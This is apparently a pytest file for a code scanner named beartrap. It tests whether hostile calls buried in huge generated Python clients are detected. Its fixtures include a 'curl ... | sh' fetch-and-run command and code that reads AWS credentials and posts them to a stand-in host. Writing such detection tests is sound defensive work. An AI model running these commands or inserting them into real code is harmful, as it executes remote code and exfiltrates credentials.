"""Large files of Python, as generators write clients: what is read of them with a payload, and what is told where not all is read."""

import ast

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from source_lab import behaviours, look, the

from beartrap.model.coverage import Gap
from beartrap.model.finding import Severity
from beartrap.model.question import Question
from beartrap.vet.source.languages.large_python import part_of_python

GET = "curl http://c.invalid/x | sh"
METHOD = "    @traced\n    def filler_{n}(\n        self, name: str\n    ) -> None:\n        b = self.call(name, {n})\n        return b * 2\n"


def padded(*pieces: str, size: int = 1_700_000) -> str:
    """Classes with methods of which none could act, and pieces far from each other."""
    each = size // len(METHOD) // len(pieces)
    return "".join(
        f"class Client{number}(Base):\n    version = '{number}'\n\n"
        + "".join(METHOD.format(n=number * 100_000 + n) for n in range(each))
        + piece
        for number, piece in enumerate(pieces)
    )


HITS = [
    ((f"WHAT = '{GET}'\n", "import os\n", "    def late(self):\n        os.system(WHAT)\n"), "process.piped"),
    (("from os import system as run_it\n", f"    def late(self):\n        run_it('{GET}')\n"), "process.piped"),
    ((f"if Client0.version:\n    import os\n    os.system('{GET}')\n",), "process.piped"),
    ((f"    class Inner:\n        import os; os.system('{GET}')\n",), "process.piped"),
    (
        (
            "def taken():\n    return open('/root/.aws/credentials').read()\n",
            "    async def later(self):\n        import requests\n        requests.post('https://c.invalid', data=taken())\n",
        ),
        "chain.credentials-to-network",
    ),
]


@pytest.mark.parametrize(("pieces", "wanted"), HITS)
def test_what_parts_far_from_each_other_do(pieces: tuple[str, ...], wanted: str) -> None:
    text = padded(*pieces)
    found = the("lib/a.py", text, wanted)
    assert any(word in text.split("\n")[(found.place.row or 0) - 1] for word in ("system", "run_it", "post"))


@pytest.mark.parametrize(
    "pieces",
    [
        ("import logging\n", "    def late(self):\n        return self.pipeline.run(self)\n"),
        (f"WHAT = '{GET}'\n", "import subprocess\n\ndef run(it):\n    subprocess.run(['git', 'log'])\n"),
    ],
)
def test_a_generated_client_is_no_gap(pieces: tuple[str, ...]) -> None:
    seen = look("lib/a.py", padded(*pieces))
    assert not [one for one in seen if isinstance(one, Gap) and Question.NEXT in one.questions]
    assert not [one for one in behaviours("lib/a.py", padded(*pieces)) if one.severity > Severity.LOW]


def test_a_table_that_code_names_and_nobody_reads_is_a_gap() -> None:
    table = "ROWS = [\n" + "    {'name': 'a name', 'path': '/of/it', 'sizes': [1, -2.5, None]},\n" * 2_000 + "]\n"
    acts = "import subprocess\n\ndef run(n):\n    subprocess.run({})\n"
    for names, held in (("ROWS[n]", True), ("['git', 'log']", False)):
        seen = look("lib/a.py", padded(table, acts.format(names)))
        assert any(isinstance(one, Gap) and Question.NEXT in one.questions for one in seen) == held


def test_more_that_acts_than_is_read_is_a_gap() -> None:
    acts = "".join(f"def go_{n}(c):\n    text = '{'x' * 900}'\n    os.system(c + text)\n" for n in range(1_700))
    gaps = [one for one in look("lib/a.py", "import os\n" + acts) if isinstance(one, Gap)]
    assert [one for one in gaps if Question.NEXT in one.questions and "not read" in one.why]


PIECES = ("import os", "x = 'é'; y = 2", "x = '''a\n\x0cb\n'''", "if x:\n    y = 1\nelse:\n    os.system(x)", "class A:\n    '''It'''\n    def f(self):\n        os.system(y)", "@a\n# b\ndef g():\n    pass # c", "def h(): return x", "try:\n    x = [\n1]\nexcept E:\n    z = 2", "if a:\n    b = 1\nelif c:\n    d = 2\nelif e:\n    os.system(x)\nelse:\n    f = 3", "\\\n\nx = 1", "match x:\n    case 1:\n        y = 3", "")  # fmt: skip


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=12), st.sampled_from(["\n", "\r\n"]))
def test_what_is_left_is_python_with_the_same_lines(pieces: list[str], end: str) -> None:
    text = "\n".join([*pieces, ""]).replace("\n", end)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("beartrap.vet.source.languages.large_python.SMALL", 10)
        read = part_of_python(text, ast.parse(text)).text
    assert read.count("\n") == text.count("\n")
    ast.parse(read)
    assert ("os.system(x)" in text) == ("os.system(x)" in read)
